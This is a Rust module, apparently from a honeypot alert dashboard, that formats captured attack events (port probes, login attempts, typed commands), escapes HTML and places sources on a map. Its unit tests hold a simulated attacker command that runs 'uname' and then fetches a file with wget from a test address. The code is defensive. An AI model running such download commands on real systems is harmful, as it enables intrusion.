//! How an alert is shown: its request in words, places and countries with the
//! dialect's values for what is not known. The texts are an attacker's; whoever
//! writes them escapes them for where they go.

use std::borrow::Cow;

use palisade_event::{Event, EventKind, Geo, Outcome, Untrusted};
use palisade_hub::Home;
use palisade_store::UNCLASSIFIED;

use super::countries::UNKNOWN;

/// Types whose request is the port that was attacked.
const PORT_TYPES: [&str; 2] = ["Network(honeytrap)", "Network(Dionaea)"];
/// A type whose logins are shown with their outcome.
const COWRIE: &str = "cowrie";
/// Longest request that is shown, in bytes: a thousand alerts are one answer.
const MAX_SHOWN_BYTES: usize = 8 * 1024;

/// The type of an alert.
pub(super) fn category(event: &Event) -> &str {
    event.category.as_ref().map_or(UNCLASSIFIED, |category| category.as_str())
}

/// What the daemon that saw it calls itself; the installation where it has no name.
pub(super) fn peer(event: &Event) -> &str {
    event.analyzer.as_ref().map_or(event.sensor.as_str(), |analyzer| analyzer.as_str())
}

/// What was asked for, in one line where it is typed commands. Not escaped.
pub(super) fn request(event: &Event) -> String {
    let category = category(event);
    if PORT_TYPES.contains(&category) {
        return attack_on_port(event);
    }
    let text = match (&event.request, &event.credentials) {
        (Some(request), _) if event.kind == EventKind::CommandEntered => {
            let text = request.to_lossy();
            let lines = text.lines().map(str::trim).filter(|line| !line.is_empty());
            lines.collect::<Vec<_>>().join("; ")
        }
        (Some(request), _) => request.to_lossy().into_owned(),
        (None, Some(login)) => {
            let text = |text: &Option<Untrusted>| {
                text.as_ref().map(Untrusted::to_lossy).unwrap_or_default().into_owned()
            };
            let (name, password) = (text(&login.username), text(&login.password));
            let status = match login.outcome.filter(|_| category.contains(COWRIE)) {
                Some(Outcome::Accepted) => " | Status: Success",
                Some(Outcome::Failed) => " | Status: Fail",
                None => "",
            };
            format!("Username: \"{name}\" | Password: \"{password}\"{status}")
        }
        (None, None) => String::new(),
    };
    cut(text)
}

fn attack_on_port(event: &Event) -> String {
    let target = event.target.as_ref();
    let source = event.source.as_ref();
    let transport = target.and_then(|end| end.transport).or(source.and_then(|end| end.transport));
    let transport = transport.map_or(UNKNOWN, |transport| transport.as_str());
    match target.and_then(|end| end.port) {
        Some(port) => format!("Attack on port {port}/{transport}"),
        None => format!("Attack on port {UNKNOWN}/{transport}"),
    }
}

fn cut(mut text: String) -> String {
    if text.len() > MAX_SHOWN_BYTES {
        let mut end = MAX_SHOWN_BYTES;
        while !text.is_char_boundary(end) {
            end -= 1;
        }
        text.truncate(end);
    }
    text
}

/// Escapes what has a meaning in HTML, in text and in attributes.
pub(super) fn html(text: &str) -> Cow<'_, str> {
    let special = |c: char| matches!(c, '&' | '<' | '>' | '"' | '\'');
    if !text.contains(special) {
        return Cow::Borrowed(text);
    }
    let mut escaped = String::with_capacity(text.len() + 16);
    for c in text.chars() {
        match c {
            '&' => escaped.push_str("&amp;"),
            '<' => escaped.push_str("&lt;"),
            '>' => escaped.push_str("&gt;"),
            '"' => escaped.push_str("&quot;"),
            '\'' => escaped.push_str("&#x27;"),
            c => escaped.push(c),
        }
    }
    Cow::Owned(escaped)
}

/// The code of a country.
pub(super) fn country(geo: Option<&Geo>) -> String {
    let code = geo.and_then(|geo| geo.country);
    code.map_or_else(|| UNKNOWN.to_owned(), |code| code.to_string())
}

/// Degrees north and east; those of home for a private address, where that is
/// known, and 0.0 for what is nowhere.
pub(super) fn place(geo: Option<&Geo>, home: Option<Home>) -> (String, String) {
    let known = geo.and_then(|geo| geo.lat.zip(geo.lon));
    let is_private =
        || geo.and_then(|geo| geo.country) == Some(palisade_event::CountryCode::PRIVATE);
    let at_home = || home.filter(|_| is_private()).map(|home| (home.lat, home.lon));
    let (lat, lon) = known.or_else(at_home).unwrap_or((0.0, 0.0));
    (degrees(lat), degrees(lon))
}

/// Degrees with at least one decimal.
pub(super) fn degrees(degrees: f64) -> String {
    format!("{degrees:?}")
}

#[cfg(test)]
mod tests {
    use palisade_event::{
        Category, CountryCode, Credentials, Endpoint, EventId, SensorId, Timestamp, Transport,
    };

    use super::*;

    fn event(category: &str) -> Event {
        let at = Timestamp::from_millis(0);
        let sensor = SensorId::new("tpot-1").unwrap();
        let mut event = Event::new(EventId::new(at, 1), EventKind::AuthAttempted, at, sensor);
        event.category = Category::new(category).ok();
        event
    }

    #[test]
    fn logins_are_said_in_words_and_only_those_of_cowrie_with_their_outcome() {
        let login = Credentials {
            username: Some("root".into()),
            password: Some("1234".into()),
            outcome: Some(Outcome::Failed),
        };
        let mut cowrie = event("SSH/console(cowrie)");
        cowrie.credentials = Some(login.clone());
        let said = request(&cowrie);
        assert_eq!(said, r#"Username: "root" | Password: "1234" | Status: Fail"#);
        assert_eq!(
            html(&said),
            "Username: &quot;root&quot; | Password: &quot;1234&quot; | Status: Fail"
        );
        let mut heralding = event("Passwords(heralding)");
        heralding.credentials = Some(login);
        assert_eq!(request(&heralding), r#"Username: "root" | Password: "1234""#);
        heralding.request = Some("as it was sent".into());
        assert_eq!(request(&heralding), "as it was sent");
    }

    #[test]
    fn typed_commands_are_one_line() {
        let mut typed = event("SSH/console(cowrie)");
        typed.kind = EventKind::CommandEntered;
        typed.request = Some("uname -a\r\n\n wget http://192.0.2.1/x \n".into());
        assert_eq!(request(&typed), "uname -a; wget http://192.0.2.1/x");
    }

    #[test]
    fn types_that_see_ports_alone_show_the_port() {
        let mut probe = event("Network(honeytrap)");
        probe.request = Some("\u{0}\u{1}".into());
        probe.target = Some(Endpoint {
            address: "192.0.2.1".parse().unwrap(),
            port: Some(445),
            transport: Some(Transport::Tcp),
        });
        assert_eq!(request(&probe), "Attack on port 445/tcp");
        probe.target = None;
        assert_eq!(request(&probe), "Attack on port -/-");
    }

    #[test]
    fn a_private_address_is_at_home_and_an_unknown_one_nowhere() {
        let private = Geo { country: Some(CountryCode::PRIVATE), ..Geo::default() };
        let home = Some(Home { lat: 50.7, lon: 7.0 });
        assert_eq!(place(Some(&private), home), ("50.7".to_owned(), "7.0".to_owned()));
        assert_eq!(place(Some(&private), None), ("0.0".to_owned(), "0.0".to_owned()));
        assert_eq!(place(None, home), ("0.0".to_owned(), "0.0".to_owned()));
        assert_eq!(country(None), "-");
        assert_eq!(country(Some(&private)), "PIR");
    }

    #[test]
    fn a_long_request_is_cut_between_characters() {
        let mut long = event("Webpage");
        long.request = Some(format!("x{}", "ä".repeat(MAX_SHOWN_BYTES)).into());
        let shown = request(&long);
        assert!(shown.len() <= MAX_SHOWN_BYTES && shown.ends_with('ä'));
    }
}
